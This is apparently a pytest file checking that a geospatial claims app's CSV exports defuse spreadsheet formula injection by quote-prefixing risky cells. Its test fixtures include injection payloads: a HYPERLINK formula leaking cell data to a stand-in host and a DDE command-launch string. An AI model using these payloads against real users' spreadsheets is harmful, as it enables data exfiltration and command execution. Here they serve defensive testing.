"""Issue 14 item 20: no CSV this app writes starts a cell with = + - @, tab or CR (formula injection)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import geopandas as gpd
import streamlit as st
from hypothesis import given
from hypothesis import strategies as st_h
from shapely.geometry import Point
from streamlit.testing.v1 import AppTest

from geo import schema as S
from geo.__main__ import main
from geo.claims.store import open_store
from geo.commands.claims_cmd import _read_csv
from geo.io import CSV_TRIGGERS, csv_safe_cell, csv_unsafe_cell, export_bytes
from tests.support.parties import PARTY_SEPARATISTS

REPO = Path(__file__).resolve().parents[2]
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
]
#: The registry strips leading whitespace from text, so tab and CR are tested without it.
WHITESPACE = ["\tleading tab", "\rleading CR"]


def _dangerous(cell: str) -> bool:
    return cell[:1] in CSV_TRIGGERS


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_csv_safe_cell_prefixes_only_dangerous_text():
    for value in HOSTILE + WHITESPACE:
        assert csv_safe_cell(value) == "'" + value
    for value in ("plain", "2015-01-20", "", "'quoted already", 12.5, -3.0, None):
        assert csv_safe_cell(value) == value


@given(st_h.text(max_size=12))
def test_csv_safe_cell_never_leaves_a_trigger_and_reads_back(value):
    safe = csv_safe_cell(value)
    assert not _dangerous(safe)
    assert csv_unsafe_cell(safe) == value


def _store_with_hostile_claims():
    with open_store() as store:  # the test's CONTESTED_DATA_DIR, seeded from data/
        source = str(store.list_claims()[S.CLAIM_SOURCE_ID].iloc[0])
        rows = [
            {
                S.CLAIM_QUOTE: value,
                S.CLAIM_ACTOR: "@actor",
                S.CLAIM_PARTY: PARTY_SEPARATISTS,
                S.CLAIM_STANCE: "asserts",
                S.CLAIM_KIND: "area",
                S.CLAIM_VALUE: 10 + i,
                S.CLAIM_UNIT: "sq km",
                S.CLAIM_QUALIFIER: "more_than",
                S.CLAIM_REFERENCE_LINE: S.LINE_MINSK_2014,
                S.CLAIM_EVENT_DATE: "2015-01-20",
                S.CLAIM_SOURCE_ID: source,
                S.CLAIM_NOTES: "=1+1",
            }
            for i, value in enumerate(HOSTILE)
        ]
        return store.add_claims(rows, user="tester")


def test_claims_list_csv_neutralises_formulas_and_round_trips(capsys, tmp_path):
    _store_with_hostile_claims()
    capsys.readouterr()
    assert main(["claims", "list", "--format", "csv"]) == 0
    out = capsys.readouterr().out
    cells = _cells(out)
    assert not [c for c in cells if _dangerous(c)]
    for value in HOSTILE:
        assert "'" + value in cells
    # read back by `claims add`, the text is what was stored
    rows = _read_csv(out, "dump.csv")
    assert {r[S.CLAIM_QUOTE] for r in rows} >= set(HOSTILE)
    assert {r[S.CLAIM_NOTES] for r in rows if r[S.CLAIM_QUOTE] in HOSTILE} == {"=1+1"}


def test_export_csv_neutralises_formulas(capsys, tmp_path):
    _store_with_hostile_claims()
    out = tmp_path / "claims.csv"
    assert main(["export", "--layer", "claims", "--format", "csv", "-o", str(out)]) == 0
    cells = _cells(out.read_text(encoding="utf-8"))
    assert not [c for c in cells if _dangerous(c)]
    assert "'" + HOSTILE[0] in cells and "'@actor" in cells


def test_export_bytes_csv_keeps_numbers_numeric():
    names = ["=cmd", "ok", *WHITESPACE, "two\r=2+2"]  # a bare CR inside a cell must not start a row
    gdf = gpd.GeoDataFrame(
        {"name": names, "delta": [-3.5, 2.0, 1.0, 0.0, 5.0]}, geometry=[Point(37, 48)] * 5, crs=S.CRS
    )
    data, _, _ = export_bytes(gdf, "csv")
    rows = list(csv.DictReader(io.StringIO(data.decode(), newline="")))
    assert [r["name"] for r in rows] == ["'=cmd", "ok", *("'" + w for w in WHITESPACE), "two\r=2+2"]
    assert [r["delta"] for r in rows] == ["-3.5", "2.0", "1.0", "0.0", "5.0"]  # a number is not a formula


def test_ui_csv_download_neutralises_formulas(media):
    st.cache_resource.clear()
    st.cache_data.clear()
    _store_with_hostile_claims()
    at = AppTest.from_file(str(REPO / "pages" / "import_export.py"), default_timeout=180).run()
    at.selectbox(key="ie_layer").set_value("claims").run()
    at.selectbox(key="ie_format").set_value("csv").run()
    assert not at.exception and not at.error, [e.value for e in at.error]
    cells = _cells(media(at.download_button(key="ie_download")).decode("utf-8"))
    assert "'" + HOSTILE[0] in cells
    assert not [c for c in cells if _dangerous(c)]
